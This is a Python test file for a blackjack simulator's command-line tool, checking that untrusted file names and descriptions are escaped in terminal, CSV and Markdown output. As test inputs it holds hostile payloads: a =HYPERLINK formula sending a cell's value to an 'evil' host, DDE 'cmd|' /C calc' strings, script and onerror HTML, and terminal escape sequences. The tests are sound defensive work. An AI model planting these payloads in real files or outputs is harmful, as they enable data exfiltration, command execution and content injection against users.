"""Text from other people's files (names, descriptions, file names) in bjsim's outputs: a security
review of files received from others. Nothing in them acts on a terminal, reorders the report's
figures, runs as a spreadsheet formula or as HTML in Markdown, or breaks out of a code block."""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from simulator import counting, index_plays, plans, variants
from simulator.assessment import render
from simulator.assessment.sections import Code
from simulator.cli import cli
from simulator.report import md_text, no_formula
from simulator.rules import Rules, load_rules
from simulator.strategy import dumps_strategy, load_strategy
from simulator.streams import acting_char, inert

ROOT = Path(__file__).resolve().parents[1]
ACTING = ["\u202e", "\x1b]0;title\x07", "\r", "\x9b2J"]  # reorders; retitles; overwrites; CSI


def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


def _shipped(kind: str, tmp: Path) -> Path:
    """A copy of a shipped file of ``kind`` in ``tmp`` (a variant beside its baseline)."""
    source = {"rule": ROOT / "configs/nz1994.toml",
              "variant": ROOT / "configs/variants/h17.toml",
              "plan": ROOT / "strategies/plans/hi-lo-flat.toml",
              "count": ROOT / "strategies/counts/hi-lo.toml",
              "index": ROOT / "strategies/indices/hi-lo-nz.toml"}.get(kind)
    if kind == "strategy":
        path = tmp / "mine.toml"
        path.write_text(dumps_strategy(load_strategy("basic")))
        return path
    if kind == "variant":
        (tmp / "configs").mkdir()
        shutil.copy(ROOT / "configs/nz1994.toml", tmp / "configs/nz1994.toml")
        (tmp / "configs/variants").mkdir()
        path = tmp / "configs/variants/mine.toml"
    else:
        path = tmp / f"mine-{kind}.toml"
    shutil.copy(source, path)
    return path


LOADERS = {
    "rule": lambda p: load_rules(p),
    "strategy": lambda p: load_strategy(str(p)),
    "variant": lambda p: variants.from_file(Rules(), p),
    "plan": lambda p: plans.load_plan(str(p)),
    "count": lambda p: counting.load_count(str(p)),
    "index": lambda p: index_plays.load_indices(str(p)),
}


@pytest.mark.parametrize("acting", ACTING, ids=["bidi", "osc", "cr", "csi"])
@pytest.mark.parametrize("kind", list(LOADERS))
def test_a_description_holding_a_character_that_acts_is_refused(kind, acting, tmp_path):
    """A right-to-left override in a plan's description turned the report's own figures round
    after it ("100,000" read "000,001"); an escape sequence retitled the terminal count ran in."""
    path = _shipped(kind, tmp_path)
    text = path.read_text()
    assert "\ndescription = " in text, kind
    escaped = acting.encode("unicode_escape").decode().replace("\\x", "\\u00")  # (as TOML)
    text = text.replace('\ndescription = "', '\ndescription = "x' + escaped, 1)
    path.write_text(text)
    with pytest.raises(ValueError) as err:
        LOADERS[kind](path)
    said = str(err.value)
    assert "description' holds U+" in said and f"U+{ord(acting[0]):04X}" in said, said
    assert "line breaks and tabs are fine" in said and acting not in said


def test_line_breaks_and_tabs_in_a_description_are_still_read(tmp_path):
    path = _shipped("plan", tmp_path)
    text = path.read_text().replace('\ndescription = "', '\ndescription = "two\\nlines\\tand ', 1)
    path.write_text(text)
    assert plans.load_plan(str(path)).description.startswith("two\nlines\tand ")


def test_a_file_name_with_an_escape_sequence_is_shown_escaped(tmp_path):
    """A file's name reached stdout and the error line as it was: its escape sequence retitled
    and cleared the terminal."""
    name = tmp_path / "r\x1b]0;PWN\x07\x1b[2Jx.toml"
    name.write_text("decks = 99\n")
    result = run("simulate", "--rules", name, "-n", "1000", "-q")
    assert result.exit_code == 2 and "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "\\u001b]0;PWN\\u0007" in result.stderr, result.stderr
    name.write_text("decks = 8\n")
    result = run("simulate", "--rules", name, "-n", "1000", "--chunk-rounds", "1000", "-q")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\\u001b]0;PWN" in result.stdout


def test_inert_text_is_still_json():
    import json

    doc = json.dumps({"file": "a\x1b]0;x\x07\u202eb\x85"}, ensure_ascii=False)
    assert json.loads(inert(doc)) == json.loads(doc) and "\x1b" not in inert(doc)


@pytest.mark.parametrize("text, cell", [
    ("=HYPERLINK(\"http://e/\"&A1)", "'=HYPERLINK(\"http://e/\"&A1)"),
    ("+SUM(1+1)*cmd|' /C calc'!A0", "'+SUM(1+1)*cmd|' /C calc'!A0"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(9)", "'@SUM(9)"),
    ("\tx", "'\tx"),
    ("-0.5", "-0.5"), ("+1e-3", "+1e-3"), ("nz1994", "nz1994"), ("", ""), (-1, -1), (None, None),
])
def test_a_csv_cell_a_spreadsheet_would_take_for_a_formula_is_marked_as_text(text, cell):
    assert no_formula(text) == cell


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_names_from_files_do_not_begin_a_formula_in_any_csv(tmp_path):
    """A rule set named =HYPERLINK(...) was written as that cell by simulate, compare and the
    report; a spreadsheet opening it would follow the link (or run DDE)."""
    rules = tmp_path / "r.toml"
    rules.write_text('decks = 8\n[meta]\nname = "=HYPERLINK(\\"http://evil/\\"&A1)"\n')
    variant = tmp_path / "v.toml"
    variant.write_text(f'[variant]\nname = "@SUM(9)"\nbaseline = "{rules.name}"\n'
                       "[changes]\ndealer_hits_soft_17 = true\n")
    plan = tmp_path / "p.toml"
    plan.write_text((ROOT / "strategies/plans/hi-lo-flat.toml").read_text().replace(
        'name = "hi-lo-flat"', 'name = "-cmd|x"'))
    outputs = {
        "simulate": run("simulate", "--rules", rules, "-n", "2000", "--chunk-rounds", "2000",
                        "-f", "csv", "-q"),
        "compare": run("compare", "--rules", rules, "--variant", variant, "-n", "2000",
                       "--chunk-rounds", "2000", "-f", "csv", "-q"),
        "count": run("count", "--rules", rules, "--plan", plan, "-n", "2000", "--chunk-rounds",
                     "2000", "-f", "csv", "-q"),
    }
    for command, result in outputs.items():
        assert result.exit_code == 0, (command, result.output)
        cells = _cells(result.stdout)
        bad = [c for c in cells if c and no_formula(c) != c]
        assert not bad, (command, bad)
        marked = [c for c in cells if c.startswith(("'=HYPERLINK", "'@SUM", "'-cmd"))]
        assert marked, (command, cells[:40])


def test_names_from_files_are_shown_as_written_in_markdown(tmp_path):
    """compare -f markdown and count -f markdown wrote a name's <script> and [link](...) as
    they were: a viewer rendering HTML in Markdown would run it."""
    rules = tmp_path / "r.toml"
    rules.write_text('decks = 8\n[meta]\nname = "<script>alert(1)</script> [l](http://e) *em*"\n')
    plan = tmp_path / "p.toml"
    plan.write_text((ROOT / "strategies/plans/hi-lo-flat.toml").read_text().replace(
        'description = "', 'description = "<svg onload=alert(9)> # not a heading ', 1))
    compared = run("compare", "--rules", rules, "--vary", "dealer_hits_soft_17=true", "-n",
                   "2000", "--chunk-rounds", "2000", "-f", "markdown", "-q")
    counted = run("count", "--rules", rules, "--plan", plan, "-n", "2000", "--chunk-rounds",
                  "2000", "-f", "markdown", "-q")
    for result in (compared, counted):
        assert result.exit_code == 0, result.output
        out = result.stdout
        assert "<script>" not in out and "<svg" not in out, out[:600]
        assert not re.search(r"(?<!\\)\]\(http", out), out[:600]  # (no link)
        assert "&lt;script>alert(1)&lt;/script> [l\\](http://e) \\*em\\*" in out, out[:600]
    assert "&lt;svg onload=alert(9)> # not a heading" in counted.stdout


def test_a_command_holding_a_code_fence_stays_in_its_block():
    """A file named with ``` in it closed report.md's code block early: what followed rendered
    as Markdown (a heading, raw HTML) and the command shown was cut in two."""
    block = render._md_block(Code("bjsim report --strategy 'fn/s\n```\n<img src=x>\n# x.toml'"))
    fence = block.split("\n")[0].removesuffix("sh")
    assert len(fence) >= 4 and set(fence) == {"`"} and block.endswith("\n" + fence)
    assert block.count(fence) == 2


def test_markdown_text_begins_no_heading_quote_or_list_and_keeps_to_one_line():
    assert md_text("# Fake heading") == "\\# Fake heading"
    assert md_text("> quoted") == "\\> quoted" and md_text(">=+10", cell=True) == ">=+10"
    assert md_text("- item") == "\\- item" and md_text("-0.5") == "-0.5"
    assert md_text("a\n# b\r\nc") == "a # b c"


def test_a_description_line_that_looks_like_a_table_row_is_still_escaped(tmp_path):
    """A description's own line beginning with | was taken for a table row of count's Markdown
    and left raw (an <img onerror> and a link passed); the Plan line is now one line."""
    plan = tmp_path / "p.toml"
    plan.write_text((ROOT / "strategies/plans/hi-lo-flat.toml").read_text().replace(
        'description = "', 'description = "two\\n|<img src=x onerror=alert(1)> [l](http://e) |'
        '\\n# heading ', 1))
    result = run("count", "--plan", plan, "-n", "2000", "--chunk-rounds", "2000", "-f",
                 "markdown", "-q")
    assert result.exit_code == 0, result.output
    assert "<img" not in result.stdout and not re.search(r"(?<!\\)\]\(http", result.stdout)
    assert "Plan:      two \\|&lt;img" in result.stdout or "Plan:      two |&lt;img" in \
        result.stdout, result.stdout[:400]
    assert "\n# heading" not in result.stdout


def test_the_shipped_plans_list_in_markdown_shows_a_description_as_written(tmp_path,
                                                                           monkeypatch):
    from simulator.cli import _count_list

    monkeypatch.setattr(plans, "PLAN_DIR", tmp_path)
    (tmp_path / "zz.toml").write_text((ROOT / "strategies/plans/hi-lo-flat.toml").read_text()
                                      .replace('name = "hi-lo-flat"', 'name = "zz"').replace(
        'description = "', 'description = "<img src=x onerror=alert(1)> *em*\\nnext ', 1))
    listed = _count_list("markdown")
    row = next(ln for ln in listed.splitlines() if ln.startswith("| `zz`"))
    assert "<img" not in listed and "&lt;img src=x onerror=alert(1)> \\*em\\* next" in row, row


def test_a_name_taken_from_a_file_s_name_is_inert_and_the_report_holds_no_acting_character(
        tmp_path):
    """A strategy file with no name key is named by its file's name: an escape sequence or a
    right-to-left override in it reached report.md, report.html, the csv and stderr as it was."""
    text = dumps_strategy(load_strategy("basic"))
    text = "\n".join(ln for ln in text.splitlines() if not ln.startswith("name ="))
    path = tmp_path / "e\x1b]0;PWN\x07\u202ex.toml"
    path.write_text(text + "\n")
    assert acting_char(load_strategy(str(path)).name) is None
    out = tmp_path / "rep"
    result = run("report", "--strategy", path, "--choice", "basic", "--no-variants", "-n",
                 "20000", "--sample-rounds", "10000", "--chunk-rounds", "10000", "-q", "-o", out)
    assert result.exit_code == 0, result.output
    assert acting_char(result.stderr) is None
    for f in [out / "report.md", out / "report.html", out / "report.json",
              *(out / "csv").glob("*.csv")]:
        body = f.read_text()
        assert acting_char(body.replace("\n", "")) is None, f.name
    assert "e\\u001b]0;PWN\\u0007\\u202ex" in (out / "report.md").read_text()


def test_stderr_lines_show_a_file_s_name_as_written(capsys):
    """A warning or note naming a file (`bjsim: warning: ... FILE ...`) wrote its escape
    sequence to the terminal; every line the command line writes goes through `_echo`."""
    from simulator import cli as C

    C._echo("bjsim: warning: r\x1b]0;PWN\x07.toml: ...", err=True)
    C._echo("a\tb\n", err=False, nl=False)
    out, err = capsys.readouterr()
    assert err == "bjsim: warning: r\\u001b]0;PWN\\u0007.toml: ...\n" and out == "a\tb\n"
    source = (ROOT / "simulator" / "cli.py").read_text()
    assert source.count("click.echo(") == 1  # (in `_echo` alone)
